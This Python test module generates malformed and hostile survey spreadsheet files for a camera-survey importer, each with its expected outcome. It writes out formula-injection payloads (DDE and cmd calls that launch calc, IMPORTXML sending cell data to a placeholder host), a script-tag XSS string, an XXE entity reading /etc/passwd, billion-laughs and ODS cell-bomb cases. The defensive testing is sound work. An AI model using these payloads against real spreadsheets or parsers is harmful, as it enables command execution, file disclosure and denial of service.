"""A generated corpus of malformed and hostile survey files, each with the right outcome.

Nothing here is a checked-in binary: every case builds its file into a
temporary folder (CSV text in many encodings, XLSX from openpyxl or raw
zip parts, ODS and XLS built on the spot, renamed binaries, folders …). Each
case states how many cameras a correct import stores, or that the right answer
is a clear error. ``test_corpus.py`` runs them all; ``run_corpus.py`` prints
the outcome counts (crash, hang, silent loss, clear error, clean).
"""

from __future__ import annotations

import codecs
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

HEADER = ["Tag", "Site", "Make", "Model", "Lens", "Height (m)", "Notes"]
ROWS = [
    ["C1", "North Depot", "Hikvision", "DS-2CD2143G2-I", "2.8mm", "3", "ok"],
    ["C2", "North Depot", "Dahua", "IPC-HFW2431S-S-S2", "2.8-12mm", "4.5", ""],
    ["C3", "Café Annex", "Axis", "P3265-LVE", "4mm", "2.5", ""],
    ["C4", "South Yard", "Hanwha", "XNO-6080R", "6mm", "6", ""],
    ["C5", "South Yard", "Hikvision", "DS-2DE4425IW-DE", "4.8-120mm", "8", "PTZ"],
]
N = len(ROWS)
INJECTIONS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/x","click")',
    '=DDE("cmd";"/C calc";"!A0")',
    "<script>alert(1)</script>",
    '=IMPORTXML(CONCAT("http://example.invalid/?",A1),"//a")',
]


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Path], Path]
    cameras: int | None
    """Cameras a correct import stores; None when the right answer is a clear error."""
    encoding: str | None = None
    texts: tuple[str, ...] = ()
    """Text that must reach some camera's raw row exactly as written (never evaluated)."""
    site: str | None = None
    """The site every camera must carry (merged cells, encodings read right)."""


def _csv_text(rows: list[list[str]], delimiter: str = ",", newline: str = "\n") -> str:
    def quote(cell: str) -> str:
        if any(ch in cell for ch in (delimiter, '"', "\n", "\r")):
            return '"' + cell.replace('"', '""') + '"'
        return cell

    return "".join(delimiter.join(quote(c) for c in row) + newline for row in rows)


def _write(name: str, data: bytes | str, encoding: str = "utf-8") -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))
        return path

    return build


def _survey(rows: list[list[str]] | None = None, **kw: str) -> str:
    return _csv_text([HEADER, *(ROWS if rows is None else rows)], **kw)


def _with_cell(row: int, column: int, text: str) -> list[list[str]]:
    rows = [list(r) for r in ROWS]
    rows[row][column] = text
    return rows


def csv_structure_cases() -> list[Case]:
    cases = []
    for delimiter, dname in ((",", "comma"), (";", "semicolon"), ("\t", "tab"), ("|", "pipe")):
        for newline, nname in (("\n", "lf"), ("\r\n", "crlf"), ("\r", "cr")):
            for bom in (False, True):
                text = ("\ufeff" if bom else "") + _survey(delimiter=delimiter, newline=newline)
                name = f"{dname}-{nname}{'-bom' if bom else ''}"
                cases.append(Case(name, _write(f"{name}.csv", text), N))
    ragged = [
        ("short-row", [r[:3] if i == 1 else r for i, r in enumerate(ROWS)]),
        ("long-row", [[*r, "x", "y"] if i == 2 else r for i, r in enumerate(ROWS)]),
        ("all-short", [r[:4] for r in ROWS]),
        ("all-long", [[*r, "extra"] for r in ROWS]),
        (
            "one-cell-rows-between",
            [*ROWS[:2], ["Cameras below added later by the team"], *ROWS[2:]],
        ),
        ("empty-cells", [[r[0], "", "", r[3], "", "", ""] for r in ROWS]),
    ]
    for name, rows in ragged:
        cases.append(Case(f"ragged-{name}", _write(f"{name}.csv", _survey(rows)), N))
    # A quote opened and never closed, at several rows, with several delimiters.
    for delimiter, dname in ((",", "comma"), (";", "semicolon"), ("\t", "tab")):
        for at in (0, 1, 3, 5):
            lines = _survey(delimiter=delimiter).splitlines(keepends=True)
            cells = lines[at].split(delimiter)
            cells[1] = '"' + cells[1]
            lines[at] = delimiter.join(cells)
            name = f"unterminated-quote-{dname}-line{at + 1}"
            cases.append(Case(name, _write(f"{name}.csv", "".join(lines)), N))
        multi = _with_cell(1, 6, "line one\nline two\nline three")
        cases.append(
            Case(
                f"multiline-notes-{dname}", _write("m.csv", _survey(multi, delimiter=delimiter)), N
            )
        )
    quotes = _with_cell(0, 6, 'He said "mount it high", then left')
    cases.append(Case("embedded-quotes", _write("q.csv", _survey(quotes)), N))
    for count in (1, 2, 4):
        lines = _survey().splitlines(keepends=True)
        for k in range(1, count + 1):
            lines[k] = _csv_text([ROWS[k - 1]], delimiter=";")
        cases.append(Case(f"mixed-delimiters-{count}", _write("mixed.csv", "".join(lines)), N))
    cases.append(
        Case(
            "tab-rows-in-comma-file",
            _write(
                "t.csv",
                _survey().replace(
                    "C2,North Depot,Dahua,IPC-HFW2431S-S-S2,2.8-12mm,4.5,",
                    "C2\tNorth Depot\tDahua\tIPC-HFW2431S-S-S2\t2.8-12mm\t4.5\t",
                ),
            ),
            N,
        )
    )
    return cases


def size_cases() -> list[Case]:
    long_notes = "n" * 131_000
    cases = [
        Case("cell-131k-notes", _write("big.csv", _survey(_with_cell(2, 6, long_notes))), N),
        Case(
            "cell-131k-first-row", _write("bigfirst.csv", _survey(_with_cell(0, 6, long_notes))), N
        ),
        Case(
            "cell-40k-over-cell-limit", _write("c.csv", _survey(_with_cell(1, 1, "S" * 40_000))), N
        ),
        Case(
            "line-2M-over-line-limit",
            _write("l.csv", _survey(_with_cell(3, 6, "x" * 2_100_000))),
            N - 1,
        ),
        Case(
            "header-cell-200k",
            _write("h.csv", _csv_text([[*HEADER[:-1], "N" * 200_000], *ROWS])),
            N,
        ),
        Case("unbroken-text-20k", _write("u.csv", _survey(_with_cell(0, 1, "W" * 20_000))), N),
        Case("tag-500-chars", _write("t.csv", _survey(_with_cell(0, 0, "T" * 500))), N),
        Case("location-1800-chars", _write("loc.csv", _survey(_with_cell(0, 6, "L " * 900))), N),
        Case("no-newline-at-all-300k", _write("nn.csv", "x" * 300_000), None),
    ]
    wide = [[*HEADER, *[f"X{i}" for i in range(1500)]], *[[*r, *["v"] * 1500] for r in ROWS]]
    cases.append(Case("columns-1507", _write("wide.csv", _csv_text(wide)), N))
    cases.append(
        Case(
            "columns-1000-edge",
            _write(
                "w2.csv",
                _csv_text(
                    [[*HEADER, *[f"X{i}" for i in range(993)]], *[[*r, *["v"] * 993] for r in ROWS]]
                ),
            ),
            N,
        )
    )
    blanks = [
        ("leading-blank-lines", "\n\n\n" + _survey()),
        ("trailing-5000-blank-lines", _survey() + "\n" * 5000),
        ("blank-lines-between", _survey().replace("\nC3", "\n\n\n,,,,,,\nC3")),
        ("title-rows", "Anytown survey\nprinted 2025\n\n" + _survey()),
        ("only-commas-rows", _survey() + ",,,,,,\n" * 50),
    ]
    cases.extend(Case(name, _write(f"{name}.csv", text), N) for name, text in blanks)
    return cases


def header_cases() -> list[Case]:
    no_header = _csv_text(ROWS)
    cases = [
        Case("no-header-row", _write("nh.csv", no_header), None),
        Case(
            "not-a-survey-prose",
            _write("prose.csv", "Dear Sir,\nplease find attached.\nRegards\n"),
            None,
        ),
        Case("empty-file", _write("empty.csv", b""), None),
        Case("header-only", _write("ho.csv", _csv_text([HEADER])), 0),
        Case("whitespace-only", _write("ws.csv", "   \n\t\n  \n"), None),
        Case("single-line-no-newline", _write("one.csv", ",".join(HEADER)), 0),
        Case(
            "duplicate-model-headers",
            _write(
                "dup.csv", _csv_text([[*HEADER, "Model"], *[[*r, "ALT-" + r[3]] for r in ROWS]])
            ),
            N,
            texts=("ALT-DS-2CD2143G2-I",),
        ),
        Case(
            "duplicate-notes-headers",
            _write(
                "dup2.csv", _csv_text([[*HEADER, "Notes"], *[[*r, "second note"] for r in ROWS]])
            ),
            N,
            texts=("second note",),
        ),
        Case(
            "blank-header-cells",
            _write("bh.csv", _csv_text([["Tag", "", "Make", "Model", "", "", ""], *ROWS])),
            N,
        ),
    ]
    return cases


def content_cases() -> list[Case]:
    cases = []
    for index, text in enumerate(INJECTIONS):
        cases.append(
            Case(
                f"injection-csv-{index}",
                _write(f"inj{index}.csv", _survey(_with_cell(index % N, 6, text))),
                N,
                texts=(text,),
            )
        )
        cases.append(
            Case(
                f"injection-xlsx-{index}",
                _xlsx([HEADER, *_with_cell(index % N, 6, text)], as_text=True),
                N,
                texts=(text,),
            )
        )
    controls = {
        "nul": "Depot\x00A",
        "bell": "Depot\x07A",
        "escape": "Depot\x1bA",
        "rtl-override": "Depot\u202eA",
        "form-feed": "Depot\x0cA",
        "c1-control": "Depot\x85A",
    }
    for name, text in controls.items():
        rows = [[r[0], text, *r[2:]] for r in ROWS]
        cases.append(
            Case(f"control-{name}", _write(f"{name}.csv", _survey(rows)), N, site="DepotA")
        )
    for value in (
        "0",
        "-3",
        "0 m",
        "1e400",
        "9" * 400,
        "1 lightyear",
        "nan",
        "inf",
        "-0",
        "1e-300",
        "1e308",
        "350 m",
    ):
        for column, field in ((5, "height"), (4, "lens")):
            cases.append(
                Case(
                    f"value-{field}-{value[:12]}",
                    _write("v.csv", _survey(_with_cell(0, column, value))),
                    N,
                )
            )
    return cases


SITES = {
    "utf-8": "Café Annex",
    "utf-8-sig": "Café Annex",
    "utf-16": "Café Annex",
    "utf-16-le": "Café Annex",
    "utf-16-be": "Café Annex",
    "utf-32": "Café Annex",
    "cp1252": "Café Annex",
    "latin-1": "Größe Halle",
    "mac_roman": "Café Annex",
    "shift_jis": "東京駅 北口",
    "gbk": "北京站 南门",
    "euc_kr": "서울역 출구",
    "cp1251": "Москва склад",
    "big5": "臺北車站",
}
# Encodings whose bytes are also valid Windows-1252: read without naming them, the text is
# wrong, so a warning (not silence) is the right outcome; named, the text must be right.
GUESSABLE = {"utf-8", "utf-8-sig", "utf-16", "utf-32", "cp1252"}


def encoding_cases() -> list[Case]:
    cases = []
    for encoding, site in SITES.items():
        rows = [[r[0], site, *r[2:]] for r in ROWS]
        text = _survey(rows)
        data = text.encode(encoding)
        if encoding == "utf-16-le" or encoding == "utf-16-be":
            data = (codecs.BOM_UTF16_LE if encoding.endswith("le") else codecs.BOM_UTF16_BE) + data
        detect_site = site if encoding in GUESSABLE or encoding.startswith("utf-16") else None
        cases.append(
            Case(f"encoding-{encoding}-detected", _write("e.csv", data), N, site=detect_site)
        )
        cases.append(
            Case(
                f"encoding-{encoding}-named",
                _write("e.csv", data),
                N,
                encoding=encoding.replace("-sig", "")
                if encoding != "utf-16-le" and encoding != "utf-16-be"
                else "utf-16",
                site=site,
            )
        )
    utf16 = ("\ufeff" + _survey()).encode("utf-16-le")
    cases += [
        Case("utf16-odd-byte-count", _write("o.csv", utf16 + b"\x41"), N),
        Case(
            "utf16-lone-surrogate",
            _write("s.csv", utf16.replace("C3".encode("utf-16-le"), b"\x00\xd8" + b"3\x00")),
            N,
        ),
        Case("utf16-no-bom", _write("nb.csv", _survey().encode("utf-16-le")), N),
        Case(
            "utf8-one-stray-cp1252-byte",
            _write("st.csv", _survey().encode().replace(b"North Depot", b"North D\xe9pot", 1)),
            N,
        ),
        Case(
            "utf8-truncated-sequence-at-end", _write("tr.csv", _survey().encode() + b"\xe2\x82"), N
        ),
        Case(
            "utf8-overlong-encoding",
            _write("ov.csv", _survey().encode().replace(b"ok", b"\xc0\xafok")),
            N,
        ),
        Case(
            "utf8-double-encoded",
            _write("dbl.csv", _survey().encode("utf-8").decode("cp1252").encode("utf-8")),
            N,
        ),
        Case("unknown-encoding-named", _write("x.csv", _survey()), None, encoding="no-such-codec"),
        Case("utf32-bom", _write("u32.csv", ("\ufeff" + _survey()).encode("utf-32-le")), N),
    ]
    return cases


def _zip_bytes(members: dict[str, bytes | str]) -> bytes:
    import io

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in members.items():
            package.writestr(name, data)
    return buffer.getvalue()


def binary_cases() -> list[Case]:
    png = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4
    cases = [
        Case("png-renamed-csv", _write("photo.csv", png), None),
        Case("pdf-renamed-csv", _write("doc.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"), None),
        Case("zip-renamed-csv", _write("z.csv", _zip_bytes({"a.txt": "hello"})), None),
        Case(
            "random-bytes-csv",
            _write("r.csv", os.urandom(0) + bytes((i * 37) % 256 for i in range(5000))),
            None,
        ),
        Case("elf-renamed-csv", _write("p.csv", b"\x7fELF\x02\x01\x01" + b"\x00" * 100), None),
        Case("gzip-renamed-csv", _write("g.csv", b"\x1f\x8b\x08\x00" + b"\x00" * 50), None),
        Case("sqlite-renamed-csv", _write("s.csv", b"SQLite format 3\x00" + b"\x00" * 100), None),
        Case("csv-renamed-xlsx", _write("survey.xlsx", _survey()), None),
        Case("png-renamed-xlsx", _write("survey.xlsx", png), None),
        Case("csv-renamed-xls", _write("survey.xls", _survey()), None),
        Case(
            "truncated-ole-xls",
            _write("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 40),
            None,
        ),
        Case("xlsx-renamed-csv", _xlsx([HEADER, *ROWS], name="book.csv"), N),
        Case("nul-bytes-in-text", _write("nul.csv", _survey().replace("ok", "o\x00\x00\x00k")), N),
    ]
    return cases


def _xlsx(
    rows: list[list[object]], name: str = "survey.xlsx", **options: object
) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        import openpyxl

        book = openpyxl.Workbook()
        sheet = book.active
        assert sheet is not None
        sheet.title = "Survey"
        for row in rows:
            sheet.append(row)
        if options.get("as_text"):
            for cells in sheet.iter_rows():
                for cell in cells:
                    if isinstance(cell.value, str):
                        cell.data_type = "s"  # text that starts with "=", as Excel's '=1+1
        hook = options.get("hook")
        if callable(hook):
            hook(book)
        path = folder / name
        book.save(path)
        return path

    return build


def _hidden_first(book: object) -> None:
    lookup = book.create_sheet("Lookup", 0)  # type: ignore[attr-defined]
    lookup.append(["Tag", "Make", "Model"])
    for i in range(3):
        lookup.append([f"L{i}", "Axis", "M1065-L"])
    lookup.sheet_state = "hidden"


def _merge_sites(book: object) -> None:
    sheet = book.worksheets[0]  # type: ignore[attr-defined]
    for row in range(3, 7):
        sheet.cell(row=row, column=2).value = None
    sheet.merge_cells("B2:B6")


def _far_cell(ref: str) -> Callable[[object], None]:
    def hook(book: object) -> None:
        book.worksheets[0][ref] = "stray"  # type: ignore[attr-defined]

    return hook


def _rewrite(
    build: Callable[[Path], Path], change: Callable[[str, bytes], bytes]
) -> Callable[[Path], Path]:
    """Build a workbook, then rewrite its zip members through ``change(name, data)``."""

    def rebuilt(folder: Path) -> Path:
        path = build(folder)
        with zipfile.ZipFile(path) as package:
            members = {i.filename: package.read(i) for i in package.infolist()}
        path.write_bytes(_zip_bytes({n: change(n, d) for n, d in members.items()}))
        return path

    return rebuilt


def _body(data: bytes) -> bytes:
    return data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data


def _xxe(name: str, data: bytes) -> bytes:
    if name == "xl/worksheets/sheet1.xml":
        head = b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n'
        return head + _body(data).replace(b"<t>C1</t>", b"<t>&e;</t>")
    return data


def _laughs(name: str, data: bytes) -> bytes:
    if name == "xl/worksheets/sheet1.xml":
        ents = '<!ENTITY a "lol">' + "".join(
            f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 4}">' for i in range(9)
        )
        head = b'<?xml version="1.0"?>\n<!DOCTYPE s [' + ents.encode() + b"]>"
        return head + _body(data).replace(b"<t>C1</t>", b"<t>&j;</t>")
    return data


def _hide_all(name: str, data: bytes) -> bytes:
    if name == "xl/workbook.xml":
        return data.replace(b'state="visible"', b'state="hidden"')
    return data


def _no_sheets(name: str, data: bytes) -> bytes:
    if name == "xl/workbook.xml":
        import re

        return re.sub(rb"<sheets>.*</sheets>", b"<sheets/>", data, flags=re.S)
    return data


def _drop_values(name: str, data: bytes) -> bytes:
    return data


def _formula_hook(book: object) -> None:
    sheet = book.worksheets[0]  # type: ignore[attr-defined]
    sheet["B2"] = '=UPPER("north depot")'
    sheet["F3"] = "=2+2.5"


def xlsx_cases() -> list[Case]:
    table = [HEADER, *ROWS]
    numbers = [HEADER, *[[*r[:5], float(r[5]), r[6]] for r in ROWS]]
    cases = [
        Case("xlsx-clean", _xlsx(table), N),
        Case("xlsx-numeric-cells", _xlsx(numbers), N),
        Case("xlsx-title-rows", _xlsx([["Anytown survey"], [], *table]), N),
        Case("xlsx-leading-blank-rows", _xlsx([[], [], [], *table]), N),
        Case("xlsx-hidden-first-sheet", _xlsx(table, hook=_hidden_first), N),
        Case("xlsx-all-sheets-hidden", _rewrite(_xlsx(table), _hide_all), None),
        Case(
            "xlsx-merged-site",
            _xlsx([HEADER, *[[r[0], "North Depot", *r[2:]] for r in ROWS]], hook=_merge_sites),
            N,
            site="North Depot",
        ),
        Case("xlsx-formulas-without-values", _xlsx(table, hook=_formula_hook), N),
        Case("xlsx-stray-XFD1048576", _xlsx(table, hook=_far_cell("XFD1048576")), None),
        Case("xlsx-stray-A1048576", _xlsx(table, hook=_far_cell("A1048576")), N + 1),
        Case("xlsx-stray-XFD1", _xlsx(table, hook=_far_cell("XFD1")), N),
        Case("xlsx-only-XFD1048576", _xlsx([], hook=_far_cell("XFD1048576")), None),
        Case("xlsx-xxe", _rewrite(_xlsx(table), _xxe), None),
        Case("xlsx-billion-laughs", _rewrite(_xlsx(table), _laughs), None),
        Case("xlsx-no-worksheets", _rewrite(_xlsx(table), _no_sheets), None),
        Case("xlsx-truncated", _truncated(_xlsx(table)), None),
        Case("xlsx-empty-sheet", _xlsx([]), None),
        Case("xlsx-header-only", _xlsx([HEADER]), 0),
        Case(
            "xlsx-dates-and-bools",
            _xlsx(
                [
                    [*HEADER, "Survey date", "Vandal"],
                    *[[*r, __import__("datetime").datetime(2025, 9, 1), True] for r in ROWS],
                ]
            ),
            N,
        ),
        Case("xlsx-long-text-30k", _xlsx([HEADER, *_with_cell(0, 6, "z" * 30_000)]), N),
        Case(
            "xlsx-duplicate-headers",
            _xlsx([[*HEADER, "Model"], *[[*r, "X-" + r[3]] for r in ROWS]]),
            N,
            texts=("X-DS-2CD2143G2-I",),
        ),
        Case("xlsx-no-header", _xlsx(ROWS), None),
        Case(
            "xlsx-wide-300-columns",
            _xlsx([[*HEADER, *[f"C{i}" for i in range(300)]], *[[*r, *range(300)] for r in ROWS]]),
            N,
        ),
        Case("xlsx-named-csv-suffix-upper", _xlsx(table, name="SURVEY.XLSX"), N),
    ]
    return cases


def _truncated(build: Callable[[Path], Path]) -> Callable[[Path], Path]:
    def cut(folder: Path) -> Path:
        path = build(folder)
        data = path.read_bytes()
        path.write_bytes(data[: len(data) // 2])
        return path

    return cut


def _ods(body: str) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        content = (
            '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
            'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
            'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
            f"<office:body><office:spreadsheet>{body}</office:spreadsheet></office:body>"
            "</office:document-content>"
        )
        path = folder / "survey.ods"
        import io

        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as package:
            package.writestr(
                "mimetype",
                "application/vnd.oasis.opendocument.spreadsheet",
                compress_type=zipfile.ZIP_STORED,
            )
            package.writestr(
                "META-INF/manifest.xml",
                '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
                '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
                'manifest:full-path="/" manifest:media-type='
                '"application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
                'manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                "</manifest:manifest>",
            )
            package.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
        path.write_bytes(buffer.getvalue())
        return path

    return build


def _ods_rows(rows: list[list[str]]) -> str:
    def cell(text: str) -> str:
        if not text:
            return "<table:table-cell/>"
        cell = '<table:table-cell office:value-type="string">'
        return f"{cell}<text:p>{text}</text:p></table:table-cell>"

    return "".join(
        "<table:table-row>" + "".join(cell(c) for c in row) + "</table:table-row>" for row in rows
    )


def ods_cases() -> list[Case]:
    table = _ods_rows([HEADER, *ROWS])
    rows = '<table:table-row table:number-rows-repeated="1048570">'
    filler = f'{rows}<table:table-cell table:number-columns-repeated="1024"/></table:table-row>'
    bomb = (
        f'{rows}<table:table-cell table:number-columns-repeated="16384" '
        'office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'
    )
    return [
        Case("ods-clean", _ods(f'<table:table table:name="Survey">{table}</table:table>'), N),
        Case(
            "ods-empty-filler-rows",
            _ods(f'<table:table table:name="Survey">{table}{filler}</table:table>'),
            N,
        ),
        Case(
            "ods-repeated-cell-bomb",
            _ods(f'<table:table table:name="Survey">{table}{bomb}</table:table>'),
            None,
        ),
        Case(
            "ods-two-tables",
            _ods(
                f'<table:table table:name="Survey">{table}</table:table>'
                f'<table:table table:name="B">{table}</table:table>'
            ),
            N,
        ),
        Case("ods-no-tables", _ods(""), None),
    ]


def _xls(
    rows: list[list[object]], hide_first: bool = False, merge: bool = False
) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        import xlwt

        book = xlwt.Workbook()
        if hide_first:
            lookup = book.add_sheet("Lookup")
            lookup.write(0, 0, "Tag")
            lookup.write(0, 1, "Model")
            lookup.write(1, 0, "L1")
            lookup.write(1, 1, "M1065-L")
            lookup.visibility = 1
        sheet = book.add_sheet("Survey")
        for r, row in enumerate(rows):
            for c, value in enumerate(row):
                if merge and c == 1 and r >= 1:
                    continue
                sheet.write(r, c, value)
        if merge:
            sheet.write_merge(1, len(rows) - 1, 1, 1, "North Depot")
        path = folder / "survey.xls"
        book.save(str(path))
        return path

    return build


def xls_cases() -> list[Case]:
    table: list[list[object]] = [HEADER, *ROWS]
    return [
        Case("xls-clean", _xls(table), N),
        Case("xls-hidden-first-sheet", _xls(table, hide_first=True), N),
        Case("xls-merged-site", _xls(table, merge=True), N, site="North Depot"),
        Case("xls-numbers", _xls([HEADER, *[[*r[:5], float(r[5]), r[6]] for r in ROWS]]), N),
    ]


def _folder(folder: Path) -> Path:
    path = folder / "a-folder.csv"
    path.mkdir()
    return path


def _fifo(folder: Path) -> Path:
    path = folder / "pipe.csv"
    os.mkfifo(path)
    return path


def _symlink_to_folder(folder: Path) -> Path:
    target = folder / "target"
    target.mkdir()
    link = folder / "link.csv"
    link.symlink_to(target)
    return link


def _unreadable(folder: Path) -> Path:
    path = folder / "locked.csv"
    path.write_text(_survey())
    path.chmod(0)
    return path


def filesystem_cases() -> list[Case]:
    return [
        Case("path-is-a-folder", _folder, None),
        Case("path-missing", lambda folder: folder / "nope.csv", None),
        Case("path-is-a-fifo", _fifo, None),
        Case("path-symlink-to-folder", _symlink_to_folder, None),
        Case("path-dev-null", lambda folder: Path("/dev/null"), None),
        # Root reads anything, so as root this is a clean import; otherwise a clear error.
        Case("path-unreadable", _unreadable, N if os.geteuid() == 0 else None),
    ]


def all_cases() -> list[Case]:
    return [
        *csv_structure_cases(),
        *size_cases(),
        *header_cases(),
        *content_cases(),
        *encoding_cases(),
        *binary_cases(),
        *xlsx_cases(),
        *ods_cases(),
        *xls_cases(),
        *filesystem_cases(),
    ]
